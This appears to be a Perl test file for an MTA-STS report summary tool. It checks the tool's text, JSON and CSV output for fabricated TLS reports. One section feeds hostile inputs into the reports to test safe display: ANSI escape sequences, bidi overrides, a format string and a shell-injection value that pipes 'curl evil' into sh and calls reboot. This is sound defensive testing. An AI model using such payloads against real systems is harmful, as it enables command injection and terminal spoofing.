# summary-domain.t - mta-sts report summary --domain: all that the page has of one domain, as text for people and as JSON

use strict;
use warnings;
use FindBin;
use lib "$FindBin::Bin/../lib";
use File::Temp ();
use Httpd::Tools qw(run);
use JSON::PP;
use Page;
use POSIX qw(strftime);
use Report;
use Store;
use Test::More;
use Time::Local qw(timegm);

my $root  = File::Temp->newdir;
my $store = Store->new("$root");
my $tool  = ($ENV{MODULE_DIR} || "$FindBin::Bin/../../build") . '/mta-sts';
my @SUMMARY = ($tool, 'report', 'summary', '--store=' . $store->where);
sub summary { return run(@SUMMARY, @_) }
sub text_of { return summary("--domain=$_[0]", @_[1 .. $#_])->out }

my $made = 0;

# A report of a reporter, so many days ago, under an MTA-STS policy; lines and mx: of the policy.
sub sts {
    my %is = (domain => 'example.com', who => 'google.com', ago => 1, type => 'sts', good => 0, bad => 0, @_);
    my $lines = $is{lines} || ['version: STSv1', 'mode: testing', 'mx: mx1.example.com', 'mx: mx2.example.com', 'max_age: 86401'];
    return report(id => 'r' . ++$made, contact => "tls\@$is{who}", start => day($is{ago}), end => day($is{ago}, '23:59:59'), policies => [{
        policy => { 'policy-type' => $is{type}, 'policy-domain' => $is{domain}, $is{type} eq 'sts' ? ('policy-string' => $lines, 'mx-host' => $is{mx} || ['mx1.example.com']) : () },
        summary => { 'total-successful-session-count' => $is{good}, 'total-failure-session-count' => $is{bad} },
        $is{failures} ? ('failure-details' => $is{failures}) : () }]);
}
sub failed { my ($type, $n, %more) = @_; return { 'result-type' => $type, 'failed-session-count' => $n, %more } }
sub verified   { $store->add(trust => 2, channel => 'mail', reports => \@_) }
sub anybodys   { $store->add(trust => 0, channel => 'https', reports => \@_) }
sub is_narrow {
    my ($text, $name) = @_;
    is_deeply [grep { length > 80 && !/\S{70}/ } split /\n/, $text], [], "$name: 80 columns";    # a word is not torn
    unlike $text, qr/[^\n\x20-\x7e]/, '... of printable ASCII';
    return;
}

# ---- as the manual shows it ----

verified((map { sts(ago => $_, good => 90 + $_) } 1 .. 3),
    sts(ago => 4, good => 57, bad => 3, failures => [failed('certificate-expired', 2, 'receiving-mx-hostname' => 'mx1.example.com', 'receiving-ip' => '192.0.2.1', 'failure-reason-code' => 'certificate has expired'),
        failed('starttls-not-supported', 1, 'receiving-mx-hostname' => 'mx2.example.com')]),
    sts(who => 'mail.example.net', ago => 4, good => 5));
anybodys(sts(who => 'stranger.example', ago => 2, good => 5, bad => 1, failures => [failed('validation-failure', 1)]));

# The days of the manual are those up to 2026-11-28; here they are those up to today.
my $days = int(time / 86400) - int(timegm(0, 0, 0, 28, 10, 2026) / 86400);
my $manual = Page::block('tlsrpt-status.md', 'summary-text');
$manual =~ s/\b(2026)-(\d\d)-(\d\d)\b/strftime '%Y-%m-%d', gmtime timegm(0, 0, 0, $3, $2 - 1, $1) + 86400 * $days/ge;
my $as_shown = summary('--domain=example.com');
is $as_shown->out, $manual, 'the text is that of the manual';
is $as_shown->status . $as_shown->err, '1', '... and failures are 1';
is_narrow($as_shown->out, '... ');

# ---- parts ----

verified(sts(domain => 'parts.example', bad => 7, good => 60, lines => ['version: STSv1', 'mode: enforce', 'mx: *.parts.example'], mx => ['*.parts.example'], failures => [
        failed('sts-policy-fetch-error', 2, 'failure-reason-code' => 'bad https response code: 404'), failed('my-own', 3, 'failure-reason-code' => 'why'), failed('my-other', 1),
        map { failed('certificate-expired', 1, 'receiving-mx-hostname' => "mx$_.parts.example") } 1 .. 10]),
    sts(domain => 'parts.example', type => 'no-policy-found', good => 1), sts(domain => 'parts.example', ago => 3, who => 'm' x 30 . '.example', good => 1),
    sts(domain => 'parts.example', ago => 2, good => 1, lines => [map { "x: $_" } 1 .. 21]));
$store->add(trust => 0, channel => 'mail', reports => [sts(domain => 'parts.example', good => 9)]);
my $parts = text_of('parts.example');
is_narrow($parts, 'parts');
like $parts, qr/\ATLS reports on parts\.example +ERROR\n/, 'the level of the page';
like $parts, qr/^            1 session of these found no policy$/m, 'sessions without a policy';
like $parts, qr/^  mails     1 more report came by mail without a valid DKIM signature: /m, 'mails that are kept';
like $parts, qr/^  m{30}\.example\n {27}  DKIM  /m, 'a long name has a line of its own';
like $parts, qr/^  mta-sts\.parts\.example +policy host    yes  .*\n    sts-policy-fetch-error: 2$/m, 'the policy host among the MX';
like $parts, qr/^  not said .*\n    my-own: 3, my-other: 1$/m, '... and failures at an MX that nobody named';
like $parts, qr/^\d\. sts-policy-fetch-error: 2 sessions, 1 reporter, last on .*?^   At:    mta-sts\.parts\.example: bad https response code: 404 \(2\)\n {10}The web server has no policy at that path\. Check that\n {10}mta-sts\.parts\.example is answered /ms, 'a reason and what it adds';
like $parts, qr/^   At:    not said: my-own: why \(3\)\n {10}not said: my-other \(1\)\n   Do: /m, 'types that RFC 8460 does not have';
is scalar(() = $parts =~ /^ +(?:At: +)?mx\d+\.parts\.example \(1\)$/mg), 8, 'of ten places eight';
like $parts, qr/^ {10}and 2 more; --json has them$/m, '... and it says so';
is scalar(() = $parts =~ /^      x: \d+$/mg), 20, 'of 21 lines of a policy 20';
like $parts, qr/^      and 1 line more$/m, '... and it says so';

verified(map { sts(domain => 'many.example', who => "r$_.example", good => 1) } 1 .. 52);
like text_of('many.example'), qr/^  and 2 more$/m, 'of 52 reporters 50';

# Enforce: what was refused; and no day without failures.
my @enforce = (lines => ['version: STSv1', 'mode: enforce', 'mx: mx1.example.com']);
verified(sts(domain => 'enforce.example', good => 9, bad => 1, @enforce));
like text_of('enforce.example') =~ s/\s+/ /gr, qr/ Note: unexplained-failures: 1 session failed without a detail that says why\. .*? Do: Ask /, 'a finding, with what to do';
like text_of('enforce.example') =~ s/\s+/ /gr, qr/ Verdict: enforced, and 1 session failed in the last 14 days\. evidence no clean day; 1 failed in the last 14 days, the last on \d{4}-\d\d-\d\d; newest verified report for \d/, '... and the evidence';
verified(map { sts(domain => 'clean.example', ago => $_, good => 9, @enforce) } 1, 2);
like text_of('clean.example') =~ s/\s+/ /gr, qr/ Verdict: enforced, and no session failed in the last 14 days\. evidence 2 clean days, \S+ to \S+, with 18 good sessions of 1 verified reporter; 0 failed in the last 14 days; newest/, '... of clean days';
like text_of('clean.example'), qr/\ATLS reports on clean\.example +OK\n/, '... all is well';
unlike text_of('clean.example'), qr/--explain|^Why|^Note/m, '... and nothing to explain';

verified(sts(domain => 'host.example', good => 9, bad => 1, failures => [failed('sts-webpki-invalid', 1)]));
like text_of('host.example') =~ s/\s+/ /gr, qr/ Do: Give the virtual host of mta-sts\.host\.example a certificate /, 'what to do names the domain';

verified(map { my $who = $_; map { sts(domain => 'ready.example', who => $who, ago => $_, good => 9, mx => ['mx1.example.com', 'mx2.example.com']) } 1 .. 14 } 'a.example', 'b.example');
my $ready = text_of('ready.example');
like $ready, qr/^Verdict: ready for enforce\.\n(?:  met       .*\n(?: {12}.*\n)*){6}(?!  )/m, 'ready: six needs are met';
like $ready, qr/^  sessions  234 in all: 234 good, 0 failed$/m, '... no percents of none';
like $ready, qr/^Note: testing-clean: 14 clean days, /m, '... says the finding, too';

# Nobody verified; nothing at all.
anybodys(sts(domain => 'anybody.example', good => 9));
my $anybody = text_of('anybody.example');
like $anybody =~ s/\s+/ /gr, qr/ reporters 1, unverified: anybody can send a report over HTTPS, and this is what was said /, 'unverified figures are marked';
like $anybody, qr/^  a?\S+ +nobody +9 /m, '... and so is the reporter';
like $anybody, qr/^  unknown   Not asked: neither a policy served here nor a verified report /m, '... what was not asked is neither met nor missing';
like $anybody, qr/^  missing   There is no verified report\.$/m, '... and decide nothing';
my $nothing = summary('--domain=nothing.example');
is $nothing->status, 0, 'a domain without reports: 0';
like $nothing->out, qr/^  sessions  none: no report is for these days\n.*^Verdict: no report in the last 90 days\.\n  evidence  no verified report of the last 90 days$/ms, '... and it says so';
unlike $nothing->out, qr/^(?:Sessions by|Who|MX hosts|Why|Policies|Note)/m, '... no section is empty';
like $nothing->out =~ s/\s+/ /gr, qr/ policy no report names a mode; which policy is served only httpd knows /, '... what is served is not known here';
my $long = join('.', ('d' x 60) x 4);
like text_of($long), qr/\ATLS reports +OK\n  on        \Q$long\E\n/, 'a domain that does not fit into the title';

# ---- texts and numbers of strangers ----

my %EVIL = (ansi => "\e[2J\e]0;owned\a\r\nOK\x{9b}31m", bidi => "\x{202e}moc\x{2066}", shell => q{x;curl evil|sh $(reboot) `id`}, format => '%s%n%s%n', long => 'x' x 10_000);
for my $kind (sort keys %EVIL) {
    my $evil = $EVIL{$kind};
    verified(sts(domain => "$kind.example", good => 2**53, bad => 2**53, lines => ['version: STSv1', "mode: $evil", "mx: $evil", $evil], mx => [$evil], failures => [
        failed($evil, 2**53, 'receiving-mx-hostname' => $evil, 'receiving-ip' => $evil, 'failure-reason-code' => $evil),
        failed('certificate-expired', 1, 'receiving-mx-hostname' => $evil)]));
    anybodys(sts(domain => "$kind.example", who => 'x.example', bad => 1, failures => [failed($evil, 1)]));
    my $done = summary("--domain=$kind.example");
    is $done->status . $done->err, '1', "$kind: it is shown";
    is_narrow($done->out, '... ');
    unlike $done->out, qr/^   Check:/m, '... no command line is made of it';
    cmp_ok length $done->out, '<', 12_000, '... and no long text';
    is ref decode_json(summary("--domain=$kind.example", '--json')->out), 'ARRAY', '... in JSON, too';
}

# ---- JSON ----

my ($one) = my @all = @{ decode_json(summary('--domain=example.com', '--json')->out) };
is scalar(@all), 1, 'JSON of one domain: an array of one';
is_deeply [@$one{qw(domain sessions failed reporter_count top_fault mode level verdict verdict_text verified)}],
    ['example.com', 341, 3, 2, 'certificate-expired', 'testing', 'warning', 'not-ready', 'Not ready for enforce: 3 of 14 days, 1 of 2 reporters, 3 sessions failed.', JSON::PP::true], '... what a line has';
is_deeply $one->{unverified}, { sessions => 6, failed => 1, reporter_count => 1, no_policy_found => 0, causes => [{ result_type => 'validation-failure', sessions => 1 }] }, '... beside it';
is_deeply [map { "$_->{name} $_->{have} $_->{need}" } grep { !$_->{met} } @{ $one->{verdict_detail}{needs} }], ['days 3 14', 'reporters 1 2', 'failures 3 0'], '... what is missing';
is_deeply [map { scalar @{ $one->{$_} } } qw(days reporters mx causes seen findings)], [4, 3, 2, 2, 2, 0], '... and the parts of the page';
is $one->{causes}[0]{places}[0]{receiving_ip}, '192.0.2.1', '... with their places';
is_deeply [$one->{format}, $one->{policy_known}, $one->{policy}], [1, JSON::PP::false, undef], '... which policy is served is not known';
my ($line) = grep { $_->{domain} eq 'example.com' } @{ decode_json(summary('--json')->out) };
is_deeply [sort keys %$line], [sort qw(domain from to verified sessions failed no_policy_found mode level reporter_count uncounted unverified verdict verdict_text top_fault)], 'JSON of all: a line each';
is_deeply { map { $_ => $one->{$_} } keys %$line }, $line, '... which says the same';
is summary('--domain=example.com', '--csv')->out =~ tr/\n//, 2, 'CSV of one domain: a row';

# The days looked at are those that were asked for, and change no verdict.
my $short = decode_json(summary('--domain=example.com', '--json', '--since=2d')->out)->[0];
is_deeply [scalar @{ $short->{days} }, $short->{failed}, $short->{verdict_text}], [1, 0, $one->{verdict_text}], '--since';
is summary('--domain=example.com', '--since=2d')->status, 0, '... without a failure: 0';

# No colour where it is no terminal; on one, unless NO_COLOR is set.
my @on_terminal = ('python3', '-c', 'import pty,sys; pty.spawn(sys.argv[1:])', @SUMMARY, '--domain=example.com');
like run(@on_terminal)->out, qr/\e\[33mWARNING\e\[0m/, 'on a terminal: in colour';
unlike run('env', 'NO_COLOR=1', @on_terminal)->out, qr/\e/, '... unless NO_COLOR is set';

done_testing;
